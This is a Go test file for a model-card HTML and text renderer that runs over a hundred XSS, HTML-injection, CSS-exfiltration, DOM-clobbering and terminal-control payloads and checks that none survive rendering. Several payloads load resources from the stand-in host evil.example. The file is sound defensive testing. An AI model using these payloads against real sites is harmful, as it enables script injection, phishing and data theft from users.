package card_test

import (
	"bytes"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/modelreg/modelreg/pkg/card"
)

// vectors are bodies of cards that try to run, fetch, submit, navigate, or
// reach the page around them. Those whose name begins with "swallows" may
// take the text after them along.
var vectors = map[string]string{
	// script elements
	"script":                             `<script>alert(1)</script>`,
	"script, mixed case and src":         `<ScRiPt SRC=//evil.example/x.js></sCrIpT>`,
	"script, slash for blank":            `<script/x src=//evil.example/x.js></script>`,
	"script inside script":               `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"swallows: script, unclosed":         `<script>alert(1)`,
	"script in svg":                      `<svg><script>alert(1)</script></svg>`,
	"script by entity in svg":            `<svg><script>&#97;lert(1)</script></svg>`,
	"script, closed twice":               `<script></script><script>alert(1)</script></script>`,
	"script in a comment":                `<!--><script>alert(1)</script>-->`,
	"script after odd comment":           `<!--a--!><script>alert(1)</script>-->`,
	"script in CDATA":                    `<![CDATA[<script>alert(1)</script>]]>`,
	"script in a declaration":            `<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;`,
	"script in a title attribute":        `[a](/b "<script>alert(1)</script>\"><script>alert(1)</script>")`,
	"script in an image":                 `![<script>alert(1)</script>](a.png "\"><script>alert(1)</script>")`,
	"script in a heading":                `# <script>alert(1)</script> "><img src=x onerror=alert(1)>`,
	"script in a language":               "```\"><script>alert(1)</script>\nx\n```",
	"script in a table":                  "|a|\n|-|\n|<script>alert(1)</script>|",
	"NUL in a tag":                       "<scr\x00ipt>alert(1)</scr\x00ipt>",
	"swallows: script without a bracket": `<script src=//evil.example/x.js`,
	"meta character set":                 `<meta charset=utf-7>+ADw-script+AD4-alert(1)`,

	// event handlers
	"onerror":               `<img src=x onerror=alert(1)>`,
	"onerror, no blanks":    `<img/src="x"/onerror="alert(1)">`,
	"onerror, newline":      "<img src=x\nonerror\n=\nalert(1)>",
	"onerror, odd quote":    "<img src=`x` onerror=alert(1)>",
	"onerror, quote in alt": `<img alt="x" onerror=alert(1) " src="a.png">`,
	"onload of body":        `<body onload=alert(1)>`,
	"onload of svg":         `<svg onload=alert(1)>`,
	"ontoggle":              `<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>`,
	"onfocus":               `<a href=# autofocus tabindex=1 onfocus=alert(1)>x</a>`,
	"onmouseover in a cell": `<table><tr><td onmouseover=alert(1)>x</td></tr></table>`,
	"onstart of marquee":    `<marquee onstart=alert(1)>x</marquee>`,
	"ON upper case":         `<p ONCLICK=alert(1) OnMouseOver=alert(1)>x</p>`,
	"handler, form feed":    "<p\fonclick=alert(1)>x</p>",

	// URLs
	"javascript":                  `[a](javascript:alert(1))`,
	"javascript, mixed case":      `[a](JaVaScRiPt:alert(1))`,
	"javascript, tab by entity":   `[a](java&#x09;script:alert(1))`,
	"javascript, colon by entity": `[a](javascript&colon;alert(1))`,
	"javascript, leading control": "<a href=\"\x01javascript:alert(1)\">a</a>",
	"javascript, newline within":  "<a href=\"java\nscript:alert(1)\">a</a>",
	"javascript, leading blanks":  `<a href="   javascript:alert(1)">a</a>`,
	"javascript as autolink":      `<javascript:alert(1)>`,
	"javascript by reference":     "[a]\n\n[a]: javascript:alert(1)",
	"javascript in an image":      `![a](javascript:alert(1))`,
	"javascript, percent-encoded": `[a](javascript%3Aalert(1))`,
	"vbscript":                    `[a](vbscript:msgbox(1))`,
	"data page":                   `[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	"data image with script":      `![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
	"blob, file and others":       `[a](blob:x) [b](file:///etc/passwd) [c](intent://x) [d](view-source:x) [e](about:blank)`,
	"xlink":                       `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	"area":                        `<map name=m><area shape=rect coords=0,0,9,9 href="javascript:alert(1)"></map>`,
	"credentials in a link":       `[a](https://bank.example@evil.example/)`,

	// fetches
	"image of another site":      `![x](https://evil.example/p.gif?u=1)`,
	"image without scheme":       `![x](//evil.example/p.gif)`,
	"image, backslashes":         `<img src="\\evil.example\p.gif"><img src="/\evil.example/p.gif"><img src="/	/evil.example/p.gif">`,
	"image, slashes by entity":   `<img src="&#47;&#47;evil.example/p.gif"><img src=" //evil.example/p.gif">`,
	"image, three slashes":       `![x](///evil.example/p.gif) ![y](https:evil.example/p.gif) ![z](https:/evil.example/p.gif)`,
	"srcset":                     `<img src=a.png srcset='//evil.example/1.png 1x'><picture><source srcset=//evil.example/2></picture>`,
	"video and audio":            `<video poster=//evil.example/3 src=//evil.example/4></video><audio src=//evil.example/5 autoplay></audio>`,
	"link and prefetch":          `<link rel=prefetch href=//evil.example/5><link rel=stylesheet href=//evil.example/6>`,
	"background and lowsrc":      `<table background=//evil.example/6><td background=//evil.example/7>x</table><img dynsrc=//e lowsrc=//e>`,
	"cite, ping and longdesc":    `<blockquote cite=//evil.example/8>x</blockquote><a href=/x ping=//evil.example/9>y</a><img src=a longdesc=//e>`,
	"iframe":                     `<iframe src=//evil.example></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	"object and embed":           `<object data=//evil.example/x.swf></object><embed src=//evil.example/x.swf><applet code=x>`,
	"frameset":                   `<frameset><frame src="javascript:alert(1)"></frameset>`,
	"image input and image tag":  `<input type=image src=//evil.example/x><image src=//evil.example/y>`,
	"style element":              `<style>@import '//evil.example/x.css'; body{background:url(//evil.example/y)}</style>`,
	"style attribute":            `<div style="position:fixed;inset:0;background:url(//evil.example/z)">x</div>`,
	"style of old browsers":      `<p style="x:expression(alert(1))">x</p><p style="behavior:url(x)">y</p>`,
	"style closing in attribute": `<style><img title="</style><img src=x onerror=alert(1)>">`,

	// navigation, forms, imitation
	"meta refresh":        `<meta http-equiv=refresh content="0;url=//evil.example">`,
	"base":                `<base href=//evil.example/><base target=_blank>`,
	"form":                `<form action=//evil.example><input name=password><button>Sign in</button></form>`,
	"form attributes":     `<button form=login formaction=//evil.example>x</button><isindex action=//evil.example>`,
	"select, textarea":    `<select><option>x</select><textarea>y</textarea><label for=q>z</label>`,
	"dialog and popover":  `<dialog open>Your session has ended</dialog><div popover id=x>y</div>`,
	"target and opener":   `<a href=https://evil.example target=_blank rel=opener>x</a>`,
	"classes and ids":     `<div class="modal is-open" id=session role=dialog aria-modal=true hidden>x</div>`,
	"clobbering":          `<a id=document name=cookie href=/x>x</a><img name=body src=a.png id=location><form name=x>`,
	"custom element":      `<x-login is=y slot=z>x</x-login><template><slot name=q></slot></template>`,
	"htmx attributes":     `<div hx-get=/api/tokens hx-trigger=load data-hx-delete=/api hx-on:click=alert(1)>x</div>`,
	"edit attributes":     `<p contenteditable accesskey=x draggable=true tabindex=0 inert enterkeyhint=x nonce=y>x</p>`,
	"closing the page":    `</div></div></main></body></html><p>outside</p>`,
	"open elements":       `<div><div><table><tr><td><b><i><a href=/x><ul><li>`,
	"misnested":           `<b><p><i></b></p></i><a href=/x><div><a href=/y></div></a><table><b>z</table></b>`,
	"closing from a cell": `<div><table><tr><td></div></div></table>`,

	// parsers that disagree
	"noscript":                      `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	"math and style":                `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	"svg and style":                 `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	"math and annotation":           `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
	"swallows: form in form":        `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	"title and textarea":            `<title><a title="</title><img src=x onerror=alert(1)>"></title><textarea></textarea><img src=x onerror=alert(1)></textarea>`,
	"xmp, noembed":                  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><noembed><p title="</noembed><img src=x onerror=alert(1)>">`,
	"plaintext":                     `<plaintext><img src=x onerror=alert(1)>`,
	"template":                      `<template><img src=x onerror=alert(1)></template>`,
	"select and style":              `<select><style></select><img src=x onerror=alert(1)></style>`,
	"attribute without end":         `<a href="x`,
	"swallows: comment without end": `<!-- <img src=x onerror=alert(1)>`,
	"entity soup":                   `&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3C;img src=x onerror=alert(1)&#x3E;`,
	"markup in code":                "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>\n",
	"bidi and ANSI":                 "a\u202eb\u2066c\x1b[31md\x9b1me",
	"dangling markup":               `<img src='https://evil.example/?`,

	// mutation: what changes its meaning when it is parsed once more
	"mutation, nested forms":                `<form><div></form><form><img src=x onerror=alert(1)></form></div>`,
	"mutation, mglyph":                      `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">`,
	"mutation, noscript in svg":             `<svg><noscript><style></noscript><img src=x onerror=alert(1)></style>`,
	"swallows: mutation, foreignObject":     `<svg><foreignObject><p><style><!--</style><img src="--><img src=x onerror=alert(1)>">`,
	"mutation, desc and title":              `<svg><desc><style><a title="</style><img src onerror=alert(1)>"></style></desc></svg>`,
	"swallows: mutation, table out of math": `<math><annotation-xml encoding="application/xhtml+xml"><table><tr><td><style></annotation-xml><img src onerror=alert(1)>`,
	"mutation, backticks":                   "<a title=\"` onmouseover=alert(1) x=`\" href=/x>x</a>",
	"mutation, quote by entity":             `<a href="/x" title="&quot; onmouseover=&quot;alert(1)">x</a>`,
	"mutation, entity twice":                `<a href="&amp;#106;avascript:alert(1)">x</a> <p title="&amp;quot;&gt;&lt;script&gt;">y</p>`,
	"mutation, entity no semicolon":         `<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>`,
	"mutation, long entity":                 `<a href="&#0000000000000000106;avascript:alert(1)">x</a>`,
	"mutation, processing":                  `<?xml-stylesheet href="javascript:alert(1)"?><!ENTITY x><?php echo 1 ?>`,
	"mutation, CDATA in svg":                `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
	"swallows: mutation, comment bang":      `<!--!><img src=x onerror=alert(1)>--!>`,
	"mutation, nested comment":              `<!-- <!-- --> <img src=x onerror=alert(1)> -->`,
	"mutation, two attributes":              `<img src=a.png src=//evil.example/x onerror=alert(1) SRC=//evil.example/y>`,
	"mutation, attribute of slashes":        `<a/href="/x"/onclick="alert(1)"/>x</a>`,
	"mutation, equals first":                `<img =onerror=alert(1) src=x>`,
	"mutation, link in code":                "[`a](javascript:alert(1))`](javascript:alert(1))",
	"mutation, reference title":             "[a]: /x \"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\"\n\n[a]",
	"mutation, autolink":                    `<https://evil.example/"onmouseover="alert(1)> https://a.example/<script>alert(1)</script>`,

	// SVG and MathML
	"svg, animate":     `<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>`,
	"svg, set":         `<svg><set attributeName=onmouseover to=alert(1) /><rect width=9 height=9 /></svg>`,
	"svg, use":         `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload=alert(1)></svg>#x"/></svg>`,
	"svg, image":       `<svg><image href="//evil.example/x.png" xlink:href="//evil.example/y.png"/></svg>`,
	"svg, filter":      `<svg><filter><feImage href="//evil.example/x.svg"/></filter><style>*{fill:url(//evil.example/z)}</style></svg>`,
	"svg, handler":     `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>`,
	"math, href":       `<math href="javascript:alert(1)">x</math><math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">y</maction></math>`,
	"math, style":      `<math><mi style="position:fixed;inset:0">x</mi><mspace width="99999em" height="99999em"/></math>`,
	"xml, namespace":   `<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></html>`,
	"xml, ev listener": `<listener event=load handler="javascript:alert(1)">x</listener>`,

	// data: and CSS
	"data, script":            `<script src="data:text/javascript,alert(1)"></script><link rel=stylesheet href="data:text/css,*{}">`,
	"data, image with script": `<img src="data:image/svg+xml,%3Csvg onload=alert(1)%3E"> <img src="DATA:image/png;base64,AAAA">`,
	"data, object":            `<object data="data:text/html,<script>alert(1)</script>"></object><embed src="data:image/svg+xml,x">`,
	"data, by entity":         `[a](&#100;ata:text/html,x) ![b](d&#97;ta:image/svg+xml,x)`,
	"CSS, import by escape":   `<style>@\69mport url(//evil.example/x)</style><p style="background:\75rl(//evil.example/y)">x</p>`,
	"CSS, variables":          `<p style="--x:url(//evil.example/x);background:var(--x)" class="x:hover">x</p>`,
	"CSS, attribute leak":     `<style>input[value^=a]{background:url(//evil.example/a)}</style>`,
	"CSS, layout of the page": `<font size=7 face="x" color=red><marquee width=9999>x</marquee></font><p align="x" width=1e9>y</p>`,
	"CSS, in a class":         "```language-x\" style=\"position:fixed\nx\n```",

	// clobbering
	"clobbering, forms":       `<form id=document><input name=cookie><input name=body></form><output id=location></output>`,
	"clobbering, nested":      `<a id=config><a id=config name=url href="https://evil.example/x.js">x</a></a>`,
	"clobbering, constructor": `<a id=__proto__>x</a><a id=constructor>y</a><h1 id=toString>z</h1><a name=hasOwnProperty>v</a>`,
	"clobbering, heading":     "# user-content-document\n\n# __proto__\n\n# constructor",
	"clobbering, label":       `<label for=user-content-x accesskey=x>y</label><map name=user-content-z></map>`,

	// letters
	"unicode, tags":            "a\U000E0001\U000E0041\U000E007F b\u200d\u2060\ufeff",
	"unicode, bidi isolates":   "[safe\u2067\u202e.example](https://evil.example/\u202etxt.exe) \u2069",
	"unicode, line separators": "<img src=x\u2028onerror=alert(1)> <a href=\"java\u2028script:alert(1)\">x</a>",
	"unicode, full width":      "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e [a](\uff4aavascript:alert(1))",
	"unicode, lone surrogate":  "<a href=\"java\xed\xa0\x80script:alert(1)\">x</a> \xc0\xbcscript\xc0\xbe",
	"unicode, overlong colon":  "[a](javascript\xc0\xbaalert(1)) [b](javascript\u003aalert(1))",
	"unicode, host":            "[a](https://ev\u0131l.example) [b](https://bank.example\u2044evil.example/) [c](http://[::ffff:1.2.3.4]/)",
	"unicode, soft hyphen":     "<scr\u00adipt>alert(1)</scr\u00adipt> [a](java\u00adscript:alert(1))",
	"unicode, combining":       strings.Repeat("e\u0301\u0302\u0303\u0304", 2000),
	"controls":                 "a\x00b\x07c\x08d\x1b]0;title\x07e\x7ff\u0085g\u009b31m",
}

func TestHTMLIsSafe(t *testing.T) {
	for name, body := range vectors {
		t.Run(name, func(t *testing.T) {
			checkRendering(t, []byte(body+"\n\nREADABLE\n"), !strings.HasPrefix(name, "swallows"))
			// The same inside a line of text, where other parsers see it.
			checkRendering(t, []byte("text "+body+" text\n\nREADABLE\n"), false)
		})
	}
}

func TestHTMLOfHostileCardsIsSafe(t *testing.T) {
	files, err := filepath.Glob("testdata/hostile/*/README.md")
	if err != nil || len(files) == 0 {
		t.Fatalf("no hostile cards: %v", err)
	}
	for _, name := range files {
		t.Run(filepath.Base(filepath.Dir(name)), func(t *testing.T) {
			b, err := os.ReadFile(name)
			if err != nil {
				t.Fatal(err)
			}
			checkRendering(t, b, false)
		})
	}
}

// checkRendering renders a card and fails if the page is not safe, or if text
// after the attack is lost.
func checkRendering(t *testing.T, readme []byte, readable bool) {
	t.Helper()
	c, err := card.Parse(readme)
	if err != nil {
		t.Fatal(err)
	}
	got, err := c.HTML(card.HTMLOptions{})
	if err != nil {
		t.Fatalf("HTML: %v", err)
	}
	if bad := unsafeParts(got); bad != nil {
		t.Errorf("HTML lets through %q\nof %q\nin %q", bad, readme, got)
	}
	if readable && !strings.Contains(string(got), "<p>READABLE</p>") {
		t.Errorf("text after the attack is lost\nof %q\nin %q", readme, got)
	}
	var text bytes.Buffer
	if err := c.Text(&text, card.TextOptions{Width: 40}); err != nil {
		t.Fatalf("Text: %v", err)
	}
	if i := strings.IndexFunc(text.String(), commands); i >= 0 {
		t.Errorf("Text lets through %q", text.String()[i:])
	}
}

// commands reports characters that a terminal obeys.
func commands(r rune) bool {
	return r < ' ' && r != '\n' || r >= 0x7f && r <= 0x9f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069
}

// unsafeParts parses a page with the card in it as a browser does, and
// returns everything that a card must not have there.
func unsafeParts(fragment []byte) []string {
	page := "<!DOCTYPE html><html><body><main><div id=\"card\">" + string(fragment) +
		"</div><p id=\"after\"></p></main></body></html>"
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return []string{err.Error()}
	}
	var bad []string
	seen := 0
	for n := range doc.Descendants() {
		switch id := nodeID(n); {
		case id == "card" || id == "after":
			seen++
			if n.Parent.Data != "main" {
				bad = append(bad, "the page is torn: "+id+" is in "+n.Parent.Data)
			}
		case n.Type == html.CommentNode:
			bad = append(bad, "comment")
		case n.Type == html.ElementNode && insideCard(n):
			bad = append(bad, unsafeElement(n)...)
		case n.Type == html.ElementNode && !slices.Contains([]string{"html", "head", "body", "main"}, n.Data):
			bad = append(bad, "outside of the card: "+n.Data)
		}
	}
	if seen != 2 {
		bad = append(bad, "the page is torn")
	}
	return bad
}

func nodeID(n *html.Node) string {
	for _, a := range n.Attr {
		if a.Key == "id" {
			return a.Val
		}
	}
	return ""
}

func insideCard(n *html.Node) bool {
	for p := range n.Ancestors() {
		if nodeID(p) == "card" {
			return true
		}
	}
	return false
}

// unsafeElement is written without a look at the policy it checks.
func unsafeElement(n *html.Node) []string {
	var bad []string
	tags := strings.Fields(`a abbr b blockquote br caption center cite code col colgroup dd del details
		dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s
		samp small span strong sub summary sup table tbody td tfoot th thead tr tt u ul var wbr`)
	if n.Namespace != "" || !slices.Contains(tags, n.Data) {
		bad = append(bad, "element "+n.Data)
	}
	for _, a := range n.Attr {
		switch a.Key {
		case "align", "alt", "colspan", "dir", "height", "lang", "loading", "open", "rowspan", "span",
			"start", "title", "type", "value", "width":
		case "id":
			if !strings.HasPrefix(a.Val, "user-content-") {
				bad = append(bad, "id "+a.Val)
			}
		case "class":
			if !strings.HasPrefix(a.Val, "language-") || strings.ContainsAny(a.Val, " \t\n\f\r") {
				bad = append(bad, "class "+a.Val)
			}
		case "rel":
			if a.Val != "nofollow noopener ugc" {
				bad = append(bad, "rel "+a.Val)
			}
		case "href":
			if !safeLink(a.Val) || !slices.ContainsFunc(n.Attr, func(b html.Attribute) bool { return b.Key == "rel" }) {
				bad = append(bad, "href "+a.Val)
			}
		case "src":
			if !samePlace(a.Val) {
				bad = append(bad, "src "+a.Val)
			}
		default:
			bad = append(bad, "attribute "+a.Key)
		}
	}
	return bad
}

func safeLink(s string) bool {
	u, err := url.Parse(s)
	return err == nil && slices.Contains([]string{"", "http", "https", "mailto"}, u.Scheme) &&
		!strings.ContainsFunc(s, func(r rune) bool { return r <= ' ' || r == '\\' })
}

// samePlace reports whether a browser would ask the page's own site for s.
func samePlace(s string) bool {
	u, err := url.Parse(s)
	return err == nil && safeLink(s) && u.Scheme == "" && u.Host == "" && !strings.HasPrefix(s, "//")
}

// The policy must hold when the stage before it fails: what it lets through
// neither runs nor fetches, even if it does not close what it opens.
func TestPolicyAloneIsSafe(t *testing.T) {
	for name, body := range vectors {
		t.Run(name, func(t *testing.T) {
			got := card.ApplyPolicy([]byte(body))
			doc, err := html.Parse(bytes.NewReader(got))
			if err != nil {
				t.Fatal(err)
			}
			for n := range doc.Descendants() {
				if n.Type != html.ElementNode || slices.Contains([]string{"html", "head", "body"}, n.Data) {
					continue
				}
				for _, bad := range unsafeElement(n) {
					if bad != "rel nofollow" {
						t.Errorf("policy lets through %q\nof %q\nin %q", bad, body, got)
					}
				}
			}
		})
	}
}
